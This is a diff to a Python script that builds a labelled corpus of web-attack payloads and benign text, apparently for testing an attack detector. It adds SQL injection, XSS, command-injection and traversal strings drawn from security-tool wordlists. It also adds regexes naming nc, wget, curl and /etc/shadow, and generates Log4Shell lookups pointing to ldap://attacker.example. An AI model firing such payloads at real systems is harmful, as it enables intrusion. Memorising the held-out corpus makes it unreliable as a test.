@@ -4,9 +4,10 @@ detection-corpus.sh): attacks.jsonl and benign.jsonl, one JSON object per
 line, sorted, so the same package versions give the same bytes.
 
 Generation 1 is the first corpus; generation 2 (items with "gen": 2) was
-added after generation 1's held-out items had been inspected. A gen-2 item
-whose text is already in generation 1 or in seeds.jsonl is left out."""
-import glob, hashlib, json, os, re, sys
+added after generation 1's held-out items had been inspected, generation 3
+("gen": 3) after generation 2's had been run. An item whose text is
+already in an earlier generation or in seeds.jsonl is left out."""
+import glob, hashlib, json, os, re, sys, urllib.parse
 import xml.etree.ElementTree as ET
 
 work, out = sys.argv[1], sys.argv[2]
@@ -226,10 +227,127 @@ for f in sorted(glob.glob(path(NPM + "**/package.json"), recursive=True)):
             man.append(("npm:" + os.path.relpath(f, path(NPM)), s))
 benign2 += [("json", src, t) for src, t in fresh(man)]
 
-def write(name, rows, rows2, key):
-    """rows are generation 1, rows2 generation 2 (their texts differ)."""
+# Generation 3: packages and files generations 1 and 2 did not use. An
+# item whose text is in generation 1 or 2 or in seeds.jsonl is left out,
+# and each text is kept once (the first in sorted (class, source) order).
+seen12 = seen1 | {t for _, _, t in attacks2 + benign2}
+attacks3, benign3 = [], []
+def fresh3(rows):
+    """(class, source, text) rows not in generation 1, 2 or the seeds."""
+    return [r for r in rows if r[2] not in seen12 and len(r[2].strip()) >= 4]
+def sample3(rows, n):
+    """The n fresh3 rows with the smallest sha256 of the text."""
+    keep = {}
+    for r in sorted(fresh3(rows)):
+        keep.setdefault(r[2], r)
+    return sorted(keep.values(), key=lambda r: h(r[2]))[:n]
+
+# A parameter value's class by pattern, first match wins: union selects,
+# script, commands, other SQL, traversal. None: not an attack we know.
+CLASSIFY = [
+    ("sqli", re.compile(r"(?i)union\s+(all\s+)?select")),
+    ("xss", re.compile(r"(?i)<\s*/?\s*(script|img|iframe|svg|body|a\s)|javascript:|on(error|load|mouseover)\s*=|alert\s*\(")),
+    ("rce", re.compile(r"(^|[;|`&\n]|\$\(|/bin/)\s*(cat|ls|id|uname|echo|ping|wget|curl|dir|sleep|whoami|hostname|nc|rm|touch|mail)\b|<\?php")),
+    ("sqli", re.compile(r"(?i)'\s*(or|and)\b|'\s*--|\bor\s+1=1|somesql")),
+    ("lfi", re.compile(r"(?i)\.\.[/\\]|\.\.\.[/\\]|/etc/(passwd|hosts|shadow|issue)|boot\.ini|win\.ini")),
+]
+def classify(v):
+    for cls, r in CLASSIFY:
+        if r.search(v):
+            return cls
+    return None
+def query_values(q):
+    """The percent-decoded values of a query string (the part after ?)."""
+    return [urllib.parse.unquote(kv.split("=", 1)[1]) for kv in q.split("&") if "=" in kv]
+
+DIRB = "deb/dirb/usr/share/dirb/wordlists/"
+WVULN = "deb/wfuzz/usr/share/wfuzz/wordlist/vulns/"
+# wfuzz's and dirb's CGI probe lists (nikto-style, path?query): the query
+# values that are attacks, by CLASSIFY. dirb's lines may end in a nikto
+# match field (|41|80040e14|...), cut off.
+cgi = []
+for f, src in ((DIRB + "vulns/cgis.txt", "dirb:wordlists/vulns/cgis.txt"), (WVULN + "cgis.txt", "wfuzz:vulns/cgis.txt")):
+    for l in lines(f):
+        if "?" in l:
+            for v in query_values(re.sub(r"\|\d+\|[0-9a-fA-F]{8}\|.*$", "", l.split("?", 1)[1])):
+                c = classify(v)
+                if c:
+                    cgi.append((c, src, v))
+attacks3 += sample3(cgi, 10000)
+# wfuzz's traversal lists by platform (dirTraversal.txt has {FILE}
+# placeholders; the two platform lists fill them).
+nix = lines(WVULN + "dirTraversal-nix.txt")
+win = lines(WVULN + "dirTraversal-win.txt")
+attacks3 += sample3([("lfi", "wfuzz:vulns/dirTraversal-nix.txt", l) for l in nix if l and not l.startswith("#")], 100)
+attacks3 += sample3([("lfi", "wfuzz:vulns/dirTraversal-win.txt", l) for l in win if l and not l.startswith("#")], 60)
+# wfuzz's SQL probes with a quote or an SQL keyword (not bare numbers,
+# now() or comment tokens).
+sqlk = re.compile(r"(?i)['\"]|\b(or|and|order\s+by|union|select)\b")
+attacks3 += sample3([("sqli", "wfuzz:vulns/sql_inj.txt", l.strip("\r")) for l in lines(WVULN + "sql_inj.txt") if sqlk.search(l)], 10000)
+# wfuzz's mixed list: its script and SQL lines generations 1 and 2 left.
+attacks3 += sample3([(c, AA, l) for l in allatt for c in [classify(l)] if c in ("xss", "sqli")], 10000)
+# nmap's WAF probe vectors (?p4yl04d=...), decoded; remote URLs are left
+# out like wapiti's remote inclusions.
+NSE = "deb/nmap-common/usr/share/nmap/scripts/"
+waf = open(path(NSE + "http-waf-detect.nse"), encoding="utf-8").read()
+attacks3 += sample3([(c, "nmap:scripts/http-waf-detect.nse", v) for q in re.findall(r'"\?(p4yl04d\d*=[^"]*)"', waf)
+                     for v in query_values(q) for c in [classify(v)] if c and not v.startswith("http")], 10000)
+# wafw00f's one probe per class (its XXE string is a fragment, no document).
+W00F = "deb/wafw00f/usr/lib/python3/dist-packages/wafw00f/main.py"
+w00f = {"xsstring": "xss", "sqlistring": "sqli", "lfistring": "lfi", "rcestring": "rce"}
+attacks3 += sample3([(w00f[m.group(1)], "wafw00f:main.py", m.group(3)) for m in
+                     (re.match(r"\s+(\w+) = (['\"])(.*)\2$", l) for l in lines(W00F)) if m and m.group(1) in w00f], 10000)
+# CrowdSec's Log4Shell lookup prefixes (the ones not percent-encoded),
+# completed to whole lookups with an LDAP URL.
+L4J = "deb/crowdsec/usr/share/crowdsec/data/log4j2_cve_2021_44228.txt"
+attacks3 += sample3([("rce", "crowdsec:data/log4j2_cve_2021_44228.txt", l + ("" if l.endswith(":") else ":") + "ldap://attacker.example/a}")
+                     for l in lines(L4J) if l and "%" not in l], 10000)
+# bluemonday's sanitizer tests (the OWASP AntiSamy and XSS cheat-sheet
+# vectors): the inputs of TestAntiSamy and TestXSS that are scripts.
+BM = "deb/golang-github-microcosm-cc-bluemonday-dev/usr/share/gocode/src/github.com/microcosm-cc/bluemonday/sanitize_test.go"
+bm = open(path(BM), encoding="utf-8").read()
+bm = bm[bm.index("func TestAntiSamy("):bm.index("func TestAllowNoAttrs(")]
+vec = [m.group(1)[1:-1] if m.group(1)[0] == "`" else json.loads(m.group(1))
+       for m in re.finditer(r'\bin:\s*(`[^`]*`|"(?:[^"\\\n]|\\.)*")', bm)]
+attacks3 += sample3([("xss", "bluemonday:sanitize_test.go", v) for v in vec if classify(v) == "xss"], 10000)
+
+# More natural language: BOFH excuses, Debian hints (English), German and
+# Spanish fortunes (the Spanish offensive ones, es/off, left out).
+def fortune_entries(f):
+    txt = open(path(f), encoding="utf-8", errors="replace").read()
+    return [e for e in (re.sub(r"\s+", " ", e).strip() for e in txt.split("\n%\n")) if 10 <= len(e) <= 400]
+benign3 += sample3([("text", "fortunes-bofh-excuses:bofh-excuses", e)
+                    for e in fortune_entries("deb/fortunes-bofh-excuses/usr/share/games/fortunes/bofh-excuses")], 100)
+benign3 += sample3([("text", "fortunes-debian-hints:debian-hints", e)
+                    for e in fortune_entries("deb/fortunes-debian-hints/usr/share/games/fortunes/debian-hints")], 10000)
+DE = "deb/fortunes-de/usr/share/games/fortunes/de/"
+benign3 += sample3([("text", "fortunes-de:de/" + f, e) for f in sorted(os.listdir(path(DE)))
+                    if "." not in f and f != "asciiart" for e in fortune_entries(DE + f)], 150)
+ES = "deb/fortunes-es/usr/share/games/fortunes/es/"
+benign3 += sample3([("text", "fortunes-es:es/" + f, e) for f in sorted(os.listdir(path(ES)))
+                    if f.endswith(".fortunes") for e in fortune_entries(ES + f)], 150)
+# GitHub webhook payloads (API JSON a service receives) and the events'
+# descriptions (API documentation prose).
+WH = "npm/octokit-webhooks-examples/package/api.github.com/index.json"
+wh = json.load(open(path(WH), encoding="utf-8"))
+WHS = "octokit-webhooks-examples:api.github.com/index.json"
+whj = [json.dumps(x, sort_keys=True, ensure_ascii=False) for ev in wh for x in ev["examples"]]
+benign3 += sample3([("json", WHS, s) for s in whj if len(s) <= 16384], 150)
+benign3 += sample3([("text", WHS, re.sub(r"\s+", " ", ev["description"]).strip()) for ev in wh], 10000)
+
+# A text once in generation 3, in its first (class, source) row.
+def once(rows):
+    keep = {}
+    for r in sorted(rows):
+        keep.setdefault(r[2], r)
+    return sorted(keep.values())
+attacks3, benign3 = once(attacks3), once(benign3)
+
+def write(name, gens, key):
+    """gens[i] are the rows of generation i+1 (texts differ across
+    generations)."""
     seen, outl = set(), []
-    for cls, src, s, gen in sorted([r + (1,) for r in rows] + [r + (2,) for r in rows2]):
+    for cls, src, s, gen in sorted(r + (g,) for g, rows in enumerate(gens, 1) for r in rows):
         if (cls, s) in seen:
             continue
         seen.add((cls, s))
@@ -239,6 +357,6 @@ def write(name, rows, rows2, key):
         outl.append(json.dumps(o, ensure_ascii=False, sort_keys=True))
     with open(os.path.join(out, name), "w", encoding="utf-8") as f:
         f.write("\n".join(outl) + "\n")
-    print(name, len(outl), "(gen 2: %d)" % len(rows2), file=sys.stderr)
-write("attacks.jsonl", attacks, attacks2, "payload")
-write("benign.jsonl", benign, benign2, "value")
+    print(name, len(outl), "(gen 2: %d, gen 3: %d)" % (len(gens[1]), len(gens[2])), file=sys.stderr)
+write("attacks.jsonl", [attacks, attacks2, attacks3], "payload")
+write("benign.jsonl", [benign, benign2, benign3], "value")
